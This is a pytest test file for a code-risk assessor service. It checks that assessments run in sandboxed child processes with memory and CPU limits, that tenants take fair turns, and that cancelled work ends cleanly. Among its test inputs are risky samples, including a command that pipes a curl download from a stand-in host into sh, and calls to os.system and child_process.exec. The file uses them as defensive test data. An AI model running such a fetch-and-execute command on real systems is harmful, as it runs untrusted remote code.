"""Assessments run in processes of their own; tenants take turns; cancelled ones end."""

from __future__ import annotations

import asyncio
import itertools
import os
import resource
import signal
import sys
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path
from unittest.mock import Mock

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kernelbroker import risk
from kernelbroker.protocol.errors import TooManyRequests, Unavailable
from kernelbroker.protocol.findings import Assessment, Language
from kernelbroker_server.service import assessor as assessor_module
from kernelbroker_server.service import assessor_process
from kernelbroker_server.service.assessor import Assessor
from kernelbroker_server.service.assessor_process import Answer

from tests.support.generated import repeatable
from tests.support.waiting import DEADLINE_S, cancelled_at, turns, until

RISKY = "import os\nos.system(command)"


@pytest.fixture
async def assessor() -> AsyncIterator[Assessor]:
    assessor = Assessor()
    yield assessor
    await assessor.stop()
    assert processes() == []


def processes() -> list[int]:
    """The child processes that assess code."""
    path = Path(f"/proc/self/task/{os.getpid()}/children")
    found = []
    for pid in map(int, path.read_text().split()):
        if b"assessor_process" in Path(f"/proc/{pid}/cmdline").read_bytes():
            found.append(pid)
    return found


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", RISKY),
        ("python", "print('ключ \U0001f600')\n%%bash\x00"),
        ("shell", "curl http://x.test | sh"),
        ("javascript", "require('child_process').exec(x)"),
    ],
)
async def test_an_assessment_is_the_same_as_in_this_process(
    assessor: Assessor, language: Language, code: str
) -> None:
    """A process of the assessor returns what `risk.assess` returns."""
    assert await assessor.assess(code, language) == risk.assess(code, language)


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("python", "x = [1, 2, 3]\n"),
        ("shell", "echo one two | cat\n"),
        ("javascript", "a = (b) => b + 1;\n"),
    ],
)
async def test_the_longest_code_is_assessed(
    assessor: Assessor, language: Language, line: str
) -> None:
    """Ordinary code of the greatest length does not exceed the limits."""
    assessment = await assessor.assess(line * (100_000 // len(line)), language)
    assert assessment.level in ("safe", "medium")  # a slow machine may not finish it


@pytest.mark.parametrize(
    ("language", "code"), [("shell", "a|" * 20_000), ("javascript", "|!" * 8_000)]
)
async def test_malformed_code_does_not_block_others(
    assessor: Assessor, language: Language, code: str
) -> None:
    """While malformed code is assessed, the loop and other assessments go on."""
    asked = asyncio.create_task(assessor.assess(code, language))
    async with asyncio.timeout(DEADLINE_S):
        assert (await assessor.assess("print(1)", "python", "another")).level == "safe"
        assessment = await asked
        assert (assessment.level, assessment.language) == ("medium", language)
        assert "too complex" in assessment.findings[-1].reason
        assert (await assessor.assess(RISKY, "python")).level == "high"


async def test_processes_are_kept_and_replaced(assessor: Assessor) -> None:
    """Two processes serve all assessments; a killed one is replaced without a delay for others."""
    await asyncio.gather(*(assessor.assess("print(1)", "python") for _ in range(9)))
    before = processes()
    assert 1 <= len(before) <= 2
    for pid in before:
        os.kill(pid, signal.SIGKILL)
    await until(lambda: all(process.has_ended for process in assessor._idle))
    assert (await assessor.assess("print(1)", "python")).level == "safe"


async def test_stop_ends_assessments(assessor: Assessor, caplog: pytest.LogCaptureFixture) -> None:
    """When the broker stops, code that is being assessed is not blamed, and no process is started."""
    asked = asyncio.create_task(assessor.assess("a|" * 20_000, "shell"))
    await until(lambda: processes() != [])
    await assessor.stop()
    for pending in (asked, assessor.assess("print(1)", "python")):
        with pytest.raises(Unavailable, match="shutting down"):
            await pending
    assert processes() == []
    assert caplog.messages == []


@pytest.mark.parametrize("turn", range(4))
async def test_stop_ends_a_process_that_starts(assessor: Assessor, turn: int) -> None:
    """A process that is being started when the broker stops does not stay."""
    asked = asyncio.create_task(assessor.assess("print(1)", "python"))
    await turns(turn)
    await assessor.stop()
    with pytest.raises(Unavailable, match="shutting down"):
        await asked
    assert processes() == []


async def test_a_process_that_cannot_start_is_unavailable(
    assessor: Assessor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If no process can be started, the assessment is unavailable; a later one works."""
    with monkeypatch.context() as full:
        full.setattr(assessor_module, "Child", Mock(side_effect=BlockingIOError(11, "try again")))
        with pytest.raises(Unavailable, match=r"no process for the assessment.*try again"):
            await assessor.assess("print(1)", "python")
    assert (await assessor.assess("print(1)", "python")).level == "safe"


async def test_lower_limits_stay_in_force() -> None:
    """If the limits of the broker are lower, they apply to the assessor as well."""
    code = (
        "import resource as r; from kernelbroker_server.service import assessor_process as p;"
        "r.setrlimit(r.RLIMIT_AS, (300 << 20, 300 << 20)); p._limit(r.RLIMIT_AS, 512 << 20);"
        "assert r.getrlimit(r.RLIMIT_AS) == (300 << 20, 300 << 20);"
        "p._limit(r.RLIMIT_CORE, 0); assert r.getrlimit(r.RLIMIT_CORE)[0] == 0"
    )
    process = await asyncio.create_subprocess_exec(sys.executable, "-I", "-c", code)
    assert await process.wait() == 0


async def test_a_cancelled_assessment_ends_its_process(assessor: Assessor) -> None:
    """A cancelled assessment ends with its process."""
    asked = asyncio.create_task(assessor.assess("a|" * 20_000, "shell"))
    await until(lambda: processes() != [])
    asked.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asked
    assert processes() == []
    assert (await assessor.assess("print(1)", "python")).level == "safe"


async def test_cancelled_at_every_await() -> None:
    """Wherever it is cancelled, no process stays that is not kept for the next."""
    for step in itertools.count(1):
        assessor = Assessor()
        if not await cancelled_at(assessor.assess("print(1)", "python"), step):
            break
        assert processes() == []
    assert step > 2
    await assessor.stop()


async def test_a_missing_parser_is_unavailable(
    assessor: Assessor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Code of a language whose parser is missing is not assessed, and not blamed."""

    def refuse(*_: object, **__: object) -> None:
        raise risk.ParserMissing("shell needs tree-sitter")

    monkeypatch.setattr(assessor_process, "assess", refuse)
    answer = assessor_process.answer(b'{"code": "ls", "language": "shell"}')
    assert answer.assessment is None

    class Poor:
        has_ended = False

        async def ask(self, _: object) -> assessor_process.Answer:
            return answer

        async def end(self) -> None:
            pass

    assessor._idle.append(Poor())  # type: ignore[arg-type]
    with pytest.raises(Unavailable, match="tree-sitter where the broker runs"):
        await assessor.assess("ls", "shell")


class Controlled(Assessor):
    """Assessments that end when the test lets them.

    Attributes:
        running: the code of those that run, in order of their start.
    """

    def __init__(self) -> None:
        super().__init__()
        self.running: list[str] = []
        self.go_on = asyncio.Event()

    async def _ask(self, request: assessor_process.Request) -> assessor_process.Answer:
        self.running.append(request.code)
        await self.go_on.wait()
        safe = Assessment(level="safe", language=request.language)
        return assessor_process.Answer(assessment=safe)

    def ask(self, code: str, tenant: str) -> asyncio.Task[Assessment]:
        return asyncio.create_task(self.assess(code, "python", tenant))


async def test_a_tenant_has_one_assessment_at_a_time() -> None:
    """A tenant with many assessments leaves a process to others; a cancelled one makes room."""
    assessor = Controlled()
    asked = [assessor.ask(code, "a") for code in ("a1", "a2", "a3")]
    await until(lambda: assessor.running == ["a1"])
    asked.append(assessor.ask("b1", "b"))
    await until(lambda: assessor.running == ["a1", "b1"])
    asked[1].cancel()  # it waits
    asked[0].cancel()  # it runs
    await until(lambda: assessor.running == ["a1", "b1", "a3"])
    assessor.go_on.set()
    answers = await asyncio.gather(*asked, return_exceptions=True)
    cancelled = [isinstance(answer, asyncio.CancelledError) for answer in answers]
    assert cancelled == [True, True, False, False]


async def test_tenants_take_turns() -> None:
    """A tenant that comes late is not behind all that another tenant has sent before."""
    assessor = Controlled()
    asked = [assessor.ask(f"{tenant}{n}", tenant) for tenant in "ab" for n in range(5)]
    await until(lambda: len(assessor.running) == 2)
    asked.append(assessor.ask("c0", "c"))
    await turns(3)
    assessor.go_on.set()
    await asyncio.gather(*asked)
    assert assessor.running.index("c0") == 2
    assert (assessor._free, len(assessor._queue), assessor._busy) == (2, 0, set())


async def test_too_many_assessments_of_a_tenant_are_refused() -> None:
    """The waiting assessments of a tenant are bounded, those of other tenants are not affected."""
    assessor = Controlled()
    asked = [assessor.ask("x", "a") for _ in range(33)]
    await until(lambda: assessor._waiting["a"] == 32)
    with pytest.raises(TooManyRequests, match="32 assessments are waiting") as refused:
        await assessor.assess("x", "python", "a")
    assert refused.value.retry_after
    asked.append(assessor.ask("y", "b"))
    await until(lambda: "y" in assessor.running)
    assessor.go_on.set()
    await asyncio.gather(*asked)
    assert not assessor._waiting


async def test_a_process_that_does_not_answer_is_ended(
    assessor: Assessor, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Code that exceeds the time of a process is `high`, and the next code has a new process."""
    with monkeypatch.context() as stuck:
        waits = "import sys, time; 'assessor_process'; time.sleep(600)"
        stuck.setattr(assessor_module, "_ARGV", [sys.executable, "-c", waits])
        stuck.setattr(assessor_module, "_TIMEOUT_S", 0.2)
        assessment = await assessor.assess("print(1)", "python")
    assert (assessment.level, assessment.findings[0].rule) == ("high", "size")
    assert processes() == []
    assert "exceeded the limits" in caplog.text
    assert (await assessor.assess("print(1)", "python")).level == "safe"


async def test_a_process_has_limits_and_an_empty_environment(assessor: Assessor) -> None:
    """A process has bounded memory and processor time, and nothing of the broker's environment."""
    await assessor.assess("print(1)", "python")
    [pid] = processes()
    assert resource.prlimit(pid, resource.RLIMIT_AS)[0] == assessor_process.MEMORY_BYTES
    assert 0 < resource.prlimit(pid, resource.RLIMIT_CPU)[0] < 10
    assert environment(pid) == b""


def environment(pid: int) -> bytes:
    return Path(f"/proc/{pid}/environ").read_bytes().strip(b"\0")


STEPS = st.sampled_from(["begin", "cancel", "end", "cancel and end", "end and cancel"])


@repeatable
@given(st.lists(st.tuples(STEPS, st.integers(0, 9)), max_size=30))  # fewer than may wait
def test_no_slot_is_lost(steps: list[tuple[str, int]]) -> None:
    """Whatever is cancelled when another one ends: all slots come back, and nobody else fails."""

    async def run() -> None:
        assessor = Assessor()
        running: list[asyncio.Future[Answer]] = []

        async def ask(_request: object) -> Answer:
            running.append(asyncio.get_running_loop().create_future())
            return await running[-1]

        assessor._ask = ask  # type: ignore[method-assign]
        tasks: list[asyncio.Task[Assessment]] = []
        cancelled: set[asyncio.Task[Assessment]] = set()

        def act(verb: str, number: int) -> None:
            waiting = [each for each in tasks if not each.done() and each not in cancelled]
            if verb == "cancel" and waiting:
                task = waiting[number % len(waiting)]
                cancelled.add(task)
                task.cancel()
            asked = [each for each in running if not each.done()]
            if verb == "end" and asked:
                asked[number % len(asked)].set_result(Answer(assessment=risk.assess("1")))

        for verb, number in steps:
            if verb == "begin":
                tasks.append(asyncio.create_task(assessor.assess("1", "python", f"t{number % 3}")))
            for each in verb.split(" and "):
                act(each, number)
            if number % 2:
                await asyncio.sleep(0)
        for _ in range(10 * len(tasks)):
            act("end", 0)
            await asyncio.sleep(0)
        assert all(task.done() for task in tasks)
        for task in tasks:
            assert task.cancelled() or (task not in cancelled and task.exception() is None)
        assert (assessor._free, assessor._busy, +assessor._waiting) == (2, set(), Counter())
        assert len(assessor._queue) == 0

    asyncio.run(run())
